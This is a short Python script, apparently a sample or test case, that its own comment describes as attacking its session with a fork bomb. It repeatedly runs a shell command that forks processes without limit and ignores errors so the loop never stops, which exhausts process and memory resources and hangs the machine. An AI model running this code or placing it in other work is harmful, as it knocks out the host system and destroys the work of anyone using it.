# attacks its session with a fork bomb in a shell
# ends: variously
import subprocess
while True:
    try: subprocess.run(['sh', '-c', 'b() { while :; do b & done; }; b'])
    except OSError: pass
